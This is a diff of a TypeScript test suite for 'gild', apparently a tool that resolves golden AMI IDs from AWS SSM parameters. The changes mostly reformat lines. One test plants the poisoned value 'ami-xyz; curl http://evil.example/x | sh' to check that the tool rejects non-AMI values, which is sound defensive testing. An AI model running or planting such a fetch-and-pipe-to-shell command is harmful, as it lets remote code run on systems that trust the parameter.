@@ -32,7 +32,8 @@ beforeEach(async () => {
 });
 
 async function publish(parameters: Record<string, string>): Promise<void> {
-  for (const [name, value] of Object.entries(parameters)) await ssm.send(new PutParameterCommand({ Name: name, Value: value, Type: 'String', DataType: name.includes('/status/') ? 'text' : 'aws:ec2:image' }));
+  for (const [name, value] of Object.entries(parameters))
+    await ssm.send(new PutParameterCommand({ Name: name, Value: value, Type: 'String', DataType: name.includes('/status/') ? 'text' : 'aws:ec2:image' }));
 }
 
 /** Runs `gild <args>` in-process in the test's folder; returns the exit code and what was written. */
@@ -148,7 +149,10 @@ describe('resolveImage', () => {
 });
 
 describe('revoked and poisoned parameters', () => {
-  const revokedStatus = JSON.stringify({ revoked: { reason: 'CVE-2026-0001 in openssl', at: '2026-11-29T10:00:00.000Z', by: 'ops@ci', replacement: '2.9.4' }, deprecationTime: '2026-11-29T10:00:05.000Z' });
+  const revokedStatus = JSON.stringify({
+    revoked: { reason: 'CVE-2026-0001 in openssl', at: '2026-11-29T10:00:00.000Z', by: 'ops@ci', replacement: '2.9.4' },
+    deprecationTime: '2026-11-29T10:00:05.000Z',
+  });
   const withRevoked = { ...webVersions, '/golden/web/latest': 'ami-00000000000002101', '/golden/web/status/2.10.1': revokedStatus };
 
   it.each([[['--version', '2.10.1']], [[]]])('refuses a revoked version by default (%j): EREVOKED, exit 1, with the reason and the replacement', async (selector) => {
@@ -186,10 +190,15 @@ describe('revoked and poisoned parameters', () => {
     await ssm.send(new PutParameterCommand({ Name: '/golden/web/latest', Value: 'ami-xyz; curl http://evil.example/x | sh', Type: 'String', DataType: 'aws:ec2:image' }));
     const poisoned = await gild(['resolve', 'web']);
     expect(poisoned).toMatchObject({ exitCode: 1, stdout: '' });
-    expect(poisoned.stderr).toBe('gild: Parameter /golden/web/latest in us-east-1 does not name an AMI: it holds "ami-xyz; curl http://evil.example/x | sh", which is not an AMI ID (ami- and 8 or 17 hex digits). Nothing was returned. gild writes only AMI IDs as aws:ec2:image; someone else wrote this: run `gild verify --repair` or publish again with `gild run`.\n');
+    expect(poisoned.stderr).toBe(
+      'gild: Parameter /golden/web/latest in us-east-1 does not name an AMI: it holds "ami-xyz; curl http://evil.example/x | sh", which is not an AMI ID (ami- and 8 or 17 hex digits). Nothing was returned. gild writes only AMI IDs as aws:ec2:image; someone else wrote this: run `gild verify --repair` or publish again with `gild run`.\n',
+    );
     await ssm.send(new PutParameterCommand({ Name: '/golden/web/channels/stable', Value: 'ami-0123456789abcdef0', Type: 'String' }));
     const text = await resolveImage({ image: 'web', region: 'us-east-1', client: ssm, channel: 'stable' }).catch((error: unknown) => error);
-    expect(text).toMatchObject({ code: 'EBADPARAMETER', message: expect.stringContaining('Parameter /golden/web/channels/stable in us-east-1 does not name an AMI: its data type is text, not aws:ec2:image') });
+    expect(text).toMatchObject({
+      code: 'EBADPARAMETER',
+      message: expect.stringContaining('Parameter /golden/web/channels/stable in us-east-1 does not name an AMI: its data type is text, not aws:ec2:image'),
+    });
     for (const value of ['ami-12345', 'ami-0123456789ABCDEF0', ' ami-0123456789abcdef0', 'ami-0123456789abcdef0\n']) {
       await ssm.send(new PutParameterCommand({ Name: '/golden/web/v3', Value: value, Type: 'String', DataType: 'aws:ec2:image', Overwrite: true }));
       await expect(resolveImage({ image: 'web', region: 'us-east-1', client: ssm, major: 3 })).rejects.toMatchObject({ code: 'EBADPARAMETER' });
